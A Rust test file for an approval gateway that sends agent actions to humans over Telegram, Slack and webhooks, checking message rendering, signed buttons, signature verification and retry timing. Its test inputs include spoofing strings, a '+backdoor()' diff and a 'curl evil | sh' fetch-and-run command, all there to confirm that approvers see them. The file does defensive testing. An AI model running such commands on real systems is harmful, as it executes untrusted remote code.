//! What is shown, what is believed, how long is waited: values in, text out.

use super::*;
use placet_types::ids::{ApprovalId, TimeMs};
use placet_types::json::{self, Limits, Object, Value};
use placet_types::{Digest, Hasher};
use proptest::prelude::*;

#[derive(Clone, Copy)]
struct Sha2;

impl Hasher for Sha2 {
    fn sha256(parts: &[&[u8]]) -> [u8; 32] {
        use sha2::Digest;
        let mut state = sha2::Sha256::new();
        parts.iter().for_each(|part| state.update(part));
        state.finalize().into()
    }

    /// RFC 2104.
    fn hmac(key: &[u8], parts: &[&[u8]]) -> [u8; 32] {
        let mut block = [0; 64];
        if key.len() > 64 {
            block[..32].copy_from_slice(&Self::sha256(&[key]));
        } else {
            block[..key.len()].copy_from_slice(key);
        }
        let pad = |with: u8| block.map(|byte| byte ^ with);
        let inner = pad(0x36);
        let all: Vec<&[u8]> =
            std::iter::once(inner.as_slice()).chain(parts.iter().copied()).collect();
        Self::sha256(&[&pad(0x5c), &Self::sha256(&all)])
    }
}

const KEY: [u8; 32] = [7; 32];

fn value(text: &str) -> Value {
    json::parse(text.as_bytes(), Limits::REQUEST).unwrap()
}

fn brief(request: &str) -> Brief {
    let request = value(request);
    Brief {
        approval: ApprovalId::from_bytes([1; 16]),
        workspace: "main".into(),
        state: "pending",
        surface: "approval.request".into(),
        action: "request".into(),
        environment: "production".into(),
        asked_by: "agent:autopack".into(),
        chain: Vec::new(),
        said: Some(Said::of(request.as_object().unwrap())),
        reasons: vec!["Protected path modification".into()],
        roles: [("operator".into(), 2)].into(),
        missing: [("operator".into(), 1)].into(),
        votes: vec![Vote { by: "human:ann".into(), roles: vec!["operator".into()] }],
        rejected_by: None,
        expires: TimeMs(1_790_000_000_000),
        constraints: Vec::new(),
        digests: Some((Digest([2; 32]), Digest([3; 32]))),
        requirement: Digest([4; 32]),
    }
}

const SEED: &str = r#"{"arguments": {
    "run_id": "research-system-v1", "phase_id": "research-integration",
    "decision_info": {"risk_level": "critical", "risk_score": 85,
                      "files": [{"path": "src/autopack/main.py", "added": 150}]},
    "deletion_info": {"net_deletion": 50}
}}"#;

#[test]
fn a_telegram_message_is_that_of_the_seed() {
    let message = telegram::Message::of::<Sha2>(&brief(SEED), "chat", &KEY);
    let begins = "⚠️ Placet Approval Needed\n\n\
        Run: research-system-v1\n\
        Phase: research-integration\n\
        Risk: 🚨 CRITICAL (score: 85/100)\n\n\
        Changes:\n\
        • Modified: src/autopack/main.py (+150 lines)\n\
        • Risk: Protected path modification\n\
        • Net Deletion: 50 lines\n\n";
    assert!(message.text.starts_with(begins), "{}", message.text);
    for says in [
        "Asked by: agent:autopack",
        "Approved by: human:ann (operator)",
        "Needs: operator ×1",
        "Expires: 2026-",
        "not verified",
        "• /run_id: \"research-system-v1\"",
        "• /decision_info/files/0/added: 150",
    ] {
        assert!(message.text.contains(says), "{says}: {}", message.text);
    }
    let body = Value::Object(message.send("-1001")).to_text();
    let (approve, reject) = message.buttons.unwrap();
    for data in [approve.unwrap(), reject] {
        assert!(data.len() <= 64 && body.contains(&data), "{data}");
    }
    assert!(body.contains("✅ Approve") && body.contains("❌ Reject"), "{body}");
    assert!(body.contains(r#""link_preview_options":{"is_disabled":true}"#));
}

#[test]
fn what_is_decided_has_no_buttons_and_says_who() {
    for (state, says) in [
        ("approved", "✅ Approved"),
        ("consumed", "✅ Approved and used"),
        ("rejected", "❌ Rejected"),
        ("expired", "⌛ Expired"),
        ("invalidated", "🚫 "),
        ("withdrawn", "↩️ Withdrawn"),
    ] {
        let mut brief = brief(SEED);
        brief.state = state;
        brief.rejected_by = (state == "rejected").then(|| "human:bob".into());
        let message = telegram::Message::of::<Sha2>(&brief, "chat", &KEY);
        assert!(message.text.starts_with(says), "{}", message.text);
        assert_eq!(message.buttons, None);
        assert!(!message.text.contains("Needs:"));
        assert_eq!(message.text.contains("Rejected by: human:bob"), state == "rejected");
        let edit = Value::Object(message.edit("1", 17)).to_text();
        assert!(edit.contains(r#""inline_keyboard":[]"#), "{edit}");
        let slack = Value::Object(slack::message::<Sha2>(&brief, "room", "C1", &KEY)).to_text();
        assert!(!slack.contains("button"), "{slack}");
        let form = Value::Object(slack::form::<Sha2>(&brief, "room", &KEY)).to_text();
        assert!(!form.contains("submit") && form.contains(says.trim()), "{form}");
    }
}

#[test]
fn what_was_erased_is_not_shown_and_cannot_be_decided() {
    let erased = Brief { said: None, digests: None, ..brief(SEED) };
    let message = telegram::Message::of::<Sha2>(&erased, "chat", &KEY);
    assert!(message.text.contains("erased") && message.buttons.is_none(), "{}", message.text);
    assert!(!message.text.contains("research"), "{}", message.text);
    assert!(erased.bound("chat").is_none());
    let text = Value::Object(slack::message::<Sha2>(&erased, "room", "C1", &KEY)).to_text();
    assert!(text.contains("erased") && !text.contains("button"), "{text}");
}

#[test]
fn lines_of_others_stay_lines_and_show_what_hides() {
    let brief = brief(
        r#"{"execution": "r\n\nRisk: 🟢 LOW", "step": "a\u202eb", "target": "x\u200by",
            "arguments": {"k\nApproved by: human:root": "v\u2066", "big": 5},
            "risk_tags": [], "on_behalf_of": ["human:eve\n"]}"#,
    );
    let text = telegram::Message::of::<Sha2>(&brief, "chat", &KEY).text;
    assert!(text.contains("Run: r\\u{a}\\u{a}Risk: 🟢 LOW\n"), "{text}");
    assert!(text.contains("Phase: a\\u{202e}b") && text.contains("x\\u{200b}y"), "{text}");
    assert!(text.contains("• /k\\u{a}Approved by: human:root: \"v\\u{2066}\""), "{text}");
    assert_eq!(text.matches("\nApproved by:").count(), 1, "{text}");
    let message = slack::message::<Sha2>(&brief, "room", "C1", &KEY);
    let text = Value::Object(message).to_text();
    assert!(!text.contains("5") || !text.contains("/big"), "arguments are for the form: {text}");
}

#[test]
fn a_long_value_hides_no_later_name() {
    let long = "x".repeat(50_000);
    let brief = brief(&format!(r#"{{"arguments": {{"a": "{long}", "z": "evil"}}}}"#));
    let message = telegram::Message::of::<Sha2>(&brief, "chat", &KEY);
    assert!(message.text.contains("[50002 characters]") && message.text.contains("/z: \"evil\""));
    assert!(message.buttons.unwrap().0.is_none(), "its middle was not shown");
    let form = Value::Object(slack::form::<Sha2>(&brief, "room", &KEY)).to_text();
    assert!(form.contains("/z: ") && !form.contains(r#""value":"approve""#), "{form}");
}

/// The middle of a value decides as much as its ends.
#[test]
fn what_is_approved_was_shown_whole() {
    let approves = |request: &str| {
        let brief = brief(request);
        let message = telegram::Message::of::<Sha2>(&brief, "chat", &KEY);
        assert!(message.text.encode_utf16().count() <= telegram::TEXT_MAX);
        let form = Value::Object(slack::form::<Sha2>(&brief, "room", &KEY)).to_text();
        (message.buttons.unwrap().0.is_some(), form.contains(r#""value":"approve""#), message.text)
    };
    let command = format!("{}; curl evil | sh ;{}", "a".repeat(160), "b".repeat(60));
    let (telegram, slack, text) = approves(&format!(r#"{{"arguments": {{"cmd": "{command}"}}}}"#));
    assert!(telegram && slack && text.contains(&command), "{text}");
    let command = command.repeat(20);
    let (telegram, slack, text) = approves(&format!(r#"{{"arguments": {{"cmd": "{command}"}}}}"#));
    assert!(!telegram && !slack && text.contains("placet approve"), "{text}");
    let (telegram, slack, text) = approves(&format!(r#"{{"target": "{command}"}}"#));
    assert!(!telegram && !slack && text.contains("placet approve"), "{text}");
    // What is no argument is part of the action as well.
    let request = r#"{"arguments": {"title": "typo"}, "branch": "b2", "capability": "coder",
        "change": {"diff": "+backdoor()"}, "model": "m1", "on_behalf_of": ["human:eve"], "topic": "job.x"}"#;
    let (telegram, slack, text) = approves(request);
    assert!(telegram && slack, "{text}");
    for shown in ["+backdoor()", "b2", "coder", "m1", "human:eve", "job.x"] {
        assert!(text.contains(shown), "{shown}: {text}");
    }
    let diff = "+line\\n".repeat(4000);
    let (telegram, slack, _) = approves(&format!(r#"{{"change": {{"diff": "{diff}"}}}}"#));
    assert!(!telegram && !slack);
}

#[test]
fn constraints_are_shown() {
    let mut brief = brief("{}");
    brief.constraints = members(&value(r#"{"max_runtime_sec": 45}"#));
    let text = telegram::Message::of::<Sha2>(&brief, "chat", &KEY).text;
    assert!(text.contains("Constraints:\n• /max_runtime_sec: 45"), "{text}");
}

#[test]
fn where_not_every_name_fits_nothing_is_approved() {
    let many: Vec<String> = (0..20_000).map(|at| format!(r#""member-{at}": {at}"#)).collect();
    let brief = brief(&format!(r#"{{"arguments": {{{}}}}}"#, many.join(",")));
    let message = telegram::Message::of::<Sha2>(&brief, "chat", &KEY);
    let (approve, reject) = message.buttons.clone().unwrap();
    assert!(approve.is_none() && !reject.is_empty());
    assert!(message.text.contains("more members") && message.text.contains("placet approve"));
    assert!(message.text.encode_utf16().count() <= telegram::TEXT_MAX);
    let form = slack::form::<Sha2>(&brief, "room", &KEY);
    let blocks = form.get("blocks").and_then(Value::as_array).unwrap().len();
    let form = Value::Object(form).to_text();
    assert!(blocks <= 100 && form.contains("more members"), "{blocks}");
    assert!(!form.contains(r#""value":"approve""#) && form.contains(r#""value":"reject""#));
}

#[test]
fn padding_makes_no_line_of_its_own() {
    let padded = format!("order/1{:40}• /amount: 5", "");
    let request = format!(
        r#"{{"target": "{padded}", "execution": "{padded}", "arguments": {{"a{padded}": "b  c"}}}}"#
    );
    let brief = brief(&request);
    let shown = format!("order/1{}• ", "␣".repeat(40));
    let telegram = telegram::Message::of::<Sha2>(&brief, "chat", &KEY).text;
    let slack = Value::Object(slack::form::<Sha2>(&brief, "room", &KEY)).to_text();
    for text in [telegram, slack] {
        assert_eq!(text.matches(&shown).count(), 3, "{text}");
        assert!(text.contains("b␣␣c") && !text.contains("  "), "{text}");
    }
}

#[test]
fn a_risk_is_the_graver_of_score_and_word() {
    let level = |text: &str| {
        brief(&format!(r#"{{"context": {text}}}"#)).said.unwrap().risk.map(|it| it.level)
    };
    for (text, expected) in [
        ("{}", None),
        (r#"{"risk_score": 0}"#, Some("LOW")),
        (r#"{"risk_score": 29}"#, Some("LOW")),
        (r#"{"risk_score": 30}"#, Some("MEDIUM")),
        (r#"{"risk_score": 50}"#, Some("HIGH")),
        (r#"{"risk_score": 85}"#, Some("CRITICAL")),
        (r#"{"risk_score": 10, "risk_level": "high"}"#, Some("HIGH")),
        (r#"{"risk_score": 90, "risk_level": "low"}"#, Some("CRITICAL")),
        (r#"{"risk_score": 900}"#, None),
        (r#"{"risk_level": "banana"}"#, None),
    ] {
        assert_eq!(level(text), expected, "{text}");
    }
}

fn bound<'a>(channel: &'a str) -> Bound<'a> {
    Bound {
        channel,
        approval: ApprovalId::from_bytes([9; 16]),
        request: Digest([1; 32]),
        action: Digest([2; 32]),
        requirement: Digest([3; 32]),
    }
}

#[test]
fn a_button_is_good_for_what_it_was_made_for() {
    let of = bound("chat");
    for verb in [Verb::Approve, Verb::Reject, Verb::Review] {
        let text = Token::seal::<Sha2>(&KEY, verb, &of);
        assert_eq!(text.len(), TOKEN_LEN);
        let token = Token::read(&text).unwrap();
        assert_eq!((token.verb, token.approval), (verb, of.approval));
        assert!(token.is_for::<Sha2>(&KEY, &of));
        assert!(!token.is_for::<Sha2>(&[8; 32], &of), "another workspace's");
        let others = [
            bound("chat2"),
            Bound { approval: ApprovalId::from_bytes([8; 16]), ..of },
            Bound { request: Digest([0; 32]), ..of },
            Bound { action: Digest([0; 32]), ..of },
            Bound { requirement: Digest([0; 32]), ..of },
        ];
        for other in others {
            assert!(!token.is_for::<Sha2>(&KEY, &other), "{other:?}");
        }
        // Another verb needs another MAC.
        let turned = if verb == Verb::Approve { "r" } else { "a" };
        let turned = Token::read(&format!("{turned}{}", &text[1..])).unwrap();
        assert!(!turned.is_for::<Sha2>(&KEY, &of));
    }
}

proptest! {
    #[test]
    fn every_other_spelling_of_a_button_is_refused(at in 0_usize..45, byte in 0x20_u8..0x7f) {
        let of = bound("chat");
        let text = Token::seal::<Sha2>(&KEY, Verb::Approve, &of);
        let mut other = text.clone().into_bytes();
        other[at] = byte;
        let other = String::from_utf8(other).unwrap();
        if other != text {
            prop_assert!(!Token::read(&other).is_some_and(|it| it.is_for::<Sha2>(&KEY, &of)));
        }
    }

    #[test]
    fn nothing_that_comes_in_panics(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = Token::read(&text);
        let _ = telegram::update(&bytes);
        let _ = slack::call(&bytes);
        let _ = slack::call(format!("payload={text}").as_bytes());
        let _ = telegram::judge(429, &bytes);
        let _ = slack::judge(200, Some(&text), &bytes);
        let _ = webhook::keys(&text);
        let now = TimeMs(0);
        prop_assert!(!slack::is_proven::<Sha2>(Some(&text), Some(&text), &bytes, b"s", now));
    }

    #[test]
    fn waits_grow_to_a_bound(failures in 0_u32..1000, chance in any::<u64>(), asked in any::<u64>()) {
        let wait = wait_ms(failures, chance, None);
        prop_assert!((500..=600_000).contains(&wait));
        prop_assert!(wait_ms(failures, chance, Some(asked)) >= wait);
        prop_assert!(wait_ms(failures, chance, Some(asked)) <= 3_600_000);
        prop_assert!(wait_ms(11, chance, None) >= 300_000);
    }
}

#[test]
fn an_hour_of_an_outage_leaves_attempts() {
    let mut spent = 0;
    let mut attempts = 0;
    while spent < 3_600_000 {
        attempts += 1;
        spent += wait_ms(attempts, u64::MAX, None);
    }
    assert!(attempts < ATTEMPTS_MAX, "{attempts}");
}

#[test]
fn an_update_of_telegram_is_read() {
    let text = r#"{"update_id": 7, "callback_query": {"id": "4711", "from": {"id": 42, "is_bot": false,
        "first_name": "Ann"}, "message": {"message_id": 3, "chat": {"id": -100, "type": "group"},
        "date": 0}, "chat_instance": "1", "data": "abc"}}"#;
    let update = telegram::update(text.as_bytes()).unwrap();
    let press = update.press.unwrap();
    assert_eq!((update.id, press.query.as_str(), press.user.as_str()), (7, "4711", "42"));
    assert_eq!((press.chat.as_deref(), press.data.as_deref()), (Some("-100"), Some("abc")));
    let other = telegram::update(br#"{"update_id": 8, "message": {"text": "hi"}}"#).unwrap();
    assert_eq!(other.press, None);
    let bot = text.replace("\"is_bot\": false", "\"is_bot\": true");
    assert_eq!(telegram::update(bot.as_bytes()).unwrap().press.unwrap().user, "");
    for bad in [
        "",
        "[]",
        "{}",
        r#"{"update_id": -1}"#,
        r#"{"update_id": "7"}"#,
        r#"{"update_id": 7, "update_id": 8}"#,
        r#"{"update_id": 7, "callback_query": {}}"#,
        r#"{"update_id": 7, "callback_query": {"id": 5, "from": {"id": 42}}}"#,
        r#"{"update_id": 7, "callback_query": {"id": "", "from": {"id": 42}}}"#,
        r#"{"update_id": 7, "callback_query": {"id": "1", "from": {"id": "42"}}}"#,
        r#"{"update_id": 7, "callback_query": {"id": "1", "from": {"id": 42.5}}}"#,
    ] {
        assert_eq!(telegram::update(bad.as_bytes()), None, "{bad}");
    }
    let listed = value(&format!(r#"[{text}, {{"update_id": 9, "callback_query": 5}}, 3]"#));
    let listed = telegram::updates(&listed);
    assert!(listed[0].is_ok());
    assert_eq!(listed[1], Err(Some(9)));
    assert_eq!(listed[2], Err(None));
}

#[test]
fn answers_of_telegram_are_judged() {
    let again = |asked| move |it: Attempt<Value>| matches!(it, Attempt::Again(a, _) if a == asked);
    let refusal = |code: u16, text: &str| {
        format!(r#"{{"ok": false, "error_code": {code}, "description": "{text}"}}"#)
    };
    let done = telegram::judge(200, br#"{"ok": true, "result": {"message_id": 5}}"#);
    assert!(matches!(done, Attempt::Done(result) if result.get("message_id").is_some()));
    let slow = r#"{"ok": false, "error_code": 429, "parameters": {"retry_after": 35}}"#;
    assert!(again(Some(35_000))(telegram::judge(429, slow.as_bytes())));
    assert!(again(None)(telegram::judge(502, b"<html>bad gateway</html>")));
    assert!(again(None)(telegram::judge(401, refusal(401, "Unauthorized").as_bytes())));
    assert!(again(None)(telegram::judge(200, b"{}")), "a malformed answer is none");
    let same = refusal(400, "Bad Request: message is not modified: specified new message");
    assert!(matches!(telegram::judge(400, same.as_bytes()), Attempt::Done(_)));
    let gone = refusal(400, "Bad Request: message to edit not found");
    let gone = telegram::judge(400, gone.as_bytes());
    assert!(matches!(gone, Attempt::Never(why) if telegram::is_gone(&why)));
    assert!(telegram::is_proven(Some("abc"), b"abc"));
    for (header, secret) in
        [(None, "abc"), (Some("abd"), "abc"), (Some("ab"), "abc"), (Some(""), "")]
    {
        assert!(!telegram::is_proven(header, secret.as_bytes()));
    }
}

/// The example of Slack's documentation.
const SLACK_SECRET: &[u8] = b"8f742231b10e8888abcd99yyyzzz85a5";
const SLACK_BODY: &[u8] = b"token=xyzz0WbapA4vBCDEFasx0q6G&team_id=T1DC2JH3J&team_domain=testteamnow&channel_id=G8PSS9T3V&channel_name=foobar&user_id=U2CERLKJA&user_name=roadrunner&command=%2Fwebhook-collect&text=&response_url=https%3A%2F%2Fhooks.slack.com%2Fcommands%2FT1DC2JH3J%2F397700885554%2F96rGlfmibIGlgcZRskXaIFfN&trigger_id=398738663015.47445629121.803a0bc887a14d10d2c447fce8b6703c";
const SLACK_SIGNATURE: &str = "v0=a2114d57b48eac39b9ad189dd8316235a7b4a8d21a10bd27519666489c69b503";

#[test]
fn slack_proves_itself_within_five_minutes() {
    let time = "1531420618";
    let at = |offset: i64| TimeMs((1_531_420_618_i64 + offset).unsigned_abs() * 1000);
    let proven = |signature, time, body: &[u8], now| {
        slack::is_proven::<Sha2>(signature, time, body, SLACK_SECRET, now)
    };
    for offset in [0, 299, -299, 300, -300] {
        assert!(proven(Some(SLACK_SIGNATURE), Some(time), SLACK_BODY, at(offset)), "{offset}");
    }
    for offset in [301, -301, 86_400] {
        assert!(!proven(Some(SLACK_SIGNATURE), Some(time), SLACK_BODY, at(offset)), "{offset}");
    }
    assert!(!proven(None, Some(time), SLACK_BODY, at(0)));
    assert!(!proven(Some(SLACK_SIGNATURE), None, SLACK_BODY, at(0)));
    assert!(!proven(Some(SLACK_SIGNATURE), Some("1531420619"), SLACK_BODY, at(0)));
    assert!(!proven(Some(SLACK_SIGNATURE), Some("+1531420618"), SLACK_BODY, at(0)));
    for other in [SLACK_SIGNATURE.replace("v0=", "v1="), SLACK_SIGNATURE.to_uppercase()] {
        let now = at(0);
        let proven =
            slack::is_proven::<Sha2>(Some(&other), Some(time), SLACK_BODY, SLACK_SECRET, now);
        assert!(!proven, "{other}");
    }
    assert!(!proven(Some(SLACK_SIGNATURE), Some(time), &SLACK_BODY[1..], at(0)));
    let empty = slack::is_proven::<Sha2>(Some(SLACK_SIGNATURE), Some(time), SLACK_BODY, b"", at(0));
    assert!(!empty);
}

fn form_encoded(text: &str) -> Vec<u8> {
    let mut out = b"payload=".to_vec();
    for byte in text.bytes() {
        match byte {
            b' ' => out.push(b'+'),
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b'_' | b'-' => out.push(byte),
            _ => out.extend(format!("%{byte:02X}").bytes()),
        }
    }
    out
}

#[test]
fn calls_of_slack_are_read() {
    let review = r#"{"type": "block_actions", "user": {"id": "U1"}, "trigger_id": "12.98.f",
        "actions": [{"action_id": "placet_review", "value": "vabc", "type": "button"}]}"#;
    let call = slack::call(&form_encoded(review)).unwrap();
    let done = slack::Done::Review { token: "vabc".into(), trigger: "12.98.f".into() };
    assert_eq!(call, slack::Call { user: "U1".into(), done });
    let decide = r#"{"type": "view_submission", "user": {"id": "U1"}, "view": {"id": "V1",
        "callback_id": "placet_decide", "private_metadata": "vabc", "state": {"values": {
        "verdict": {"verdict": {"type": "radio_buttons", "selected_option": {"value": "approve"}}},
        "note": {"note": {"type": "plain_text_input", "value": "ok & done"}}}}}}"#;
    let call = slack::call(&form_encoded(decide)).unwrap();
    let slack::Done::Decided { approve, note, view, token } = call.done else { panic!() };
    assert_eq!((approve, note.as_deref()), (true, Some("ok & done")));
    assert_eq!((view.as_str(), token.as_str()), ("V1", "vabc"));
    let other = decide.replace("placet_decide", "theirs");
    assert_eq!(slack::call(&form_encoded(&other)).unwrap().done, slack::Done::Other);
    let no_verdict = decide.replace(r#"{"value": "approve"}"#, "null");
    assert_eq!(slack::call(&form_encoded(&no_verdict)), None);
    let odd = decide.replace("\"approve\"", "\"yes\"");
    assert_eq!(slack::call(&form_encoded(&odd)), None);
    for bad in ["", "payload=", "payload=%7B", "payload=%7B%7D", "x=1", "payload=1&payload=2"] {
        assert_eq!(slack::call(bad.as_bytes()), None, "{bad}");
    }
}

#[test]
fn answers_of_slack_are_judged() {
    let judge = |status, after, body: &str| slack::judge(status, after, body.as_bytes());
    assert!(matches!(judge(200, None, r#"{"ok": true, "ts": "1.2"}"#), Attempt::Done(_)));
    let slow = judge(429, Some("30"), r#"{"ok": false, "error": "ratelimited"}"#);
    assert!(matches!(slow, Attempt::Again(Some(30_000), _)));
    let bad = judge(200, None, r#"{"ok": false, "error": "channel_not_found"}"#);
    assert!(matches!(bad, Attempt::Never(_)));
    let auth = judge(200, None, r#"{"ok": false, "error": "invalid_auth"}"#);
    assert!(matches!(auth, Attempt::Again(None, _)));
    let gone = judge(200, None, r#"{"ok": false, "error": "message_not_found"}"#);
    assert!(matches!(gone, Attempt::Never(why) if slack::is_gone(&why)));
    assert!(matches!(judge(503, None, "down"), Attempt::Again(None, _)));
    assert!(matches!(judge(200, None, "not json"), Attempt::Again(None, _)));
}

#[test]
fn slack_text_mentions_nobody() {
    let mut brief = brief(r#"{"execution": "<!channel> *x*"}"#);
    brief.surface = "<!here>".into();
    let message = slack::message::<Sha2>(&brief, "room", "C1", &KEY);
    let fallback = message.get("text").and_then(Value::as_str).unwrap();
    assert!(!fallback.contains('<') && fallback.contains("&lt;!here&gt;"), "{fallback}");
    let text = Value::Object(message).to_text();
    assert!(!text.contains("\"mrkdwn\":true") && !text.contains("\"type\":\"mrkdwn\""), "{text}");
}

/// The signature of the Standard Webhooks libraries' own test.
#[test]
fn a_webhook_is_signed_as_the_standard_says() {
    let keys = webhook::keys("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n").unwrap();
    let body = br#"{"test": 2432232314}"#;
    let id = "msg_p5jXN8AQM9LWM0D4loKWxJek";
    let signed = webhook::signature::<Sha2>(&keys, id, 1_614_265_330, body);
    assert_eq!(signed, "v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE=");
    let two = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\nwhsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    let both = webhook::signature::<Sha2>(&webhook::keys(two).unwrap(), id, 1_614_265_330, body);
    assert!(both.starts_with(&signed) && both.split(' ').count() == 2, "{both}");
    for bad in ["", "x", "whsec_", "whsec_!!", "whsec_AAAA", "MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"] {
        assert!(webhook::keys(bad).is_err(), "{bad}");
    }
}

#[test]
fn a_cloud_event_has_what_the_specification_requires() {
    let event = webhook::Event {
        id: "placet/ab/main/7/siem",
        origin: "placet/ab/main",
        told: "approval.opened",
        subject: Some("dec_1"),
        time: TimeMs(1_790_000_000_123),
        data: Object::new().with("index", 7_u64),
    };
    let event = json::parse(&event.body(), Limits::REQUEST).unwrap();
    let text = |name: &str| event.get(name).and_then(Value::as_str).unwrap_or_default().to_owned();
    assert_eq!(text("specversion"), "1.0");
    assert_eq!(text("source"), "urn:placet:ab:main");
    assert_eq!(text("type"), "placet.approval.opened.v1");
    assert_eq!(text("time"), TimeMs(1_790_000_000_123).rfc3339());
    assert!(event.get("data").is_some() && text("id").ends_with("/7/siem"));
    for (status, done) in [(200, 0), (204, 0), (301, 1), (400, 1), (404, 1), (410, 2), (413, 2)] {
        let found = match webhook::judge(status, None) {
            Attempt::Done(()) => 0,
            Attempt::Again(..) => 1,
            Attempt::Never(_) => 2,
        };
        assert_eq!(found, done, "{status}");
    }
    for status in [401, 403, 404, 408, 425, 429, 500, 503] {
        assert_eq!(
            webhook::judge(status, Some("7")),
            Attempt::Again(Some(7000), format!("the receiver answers {status}"))
        );
    }
}
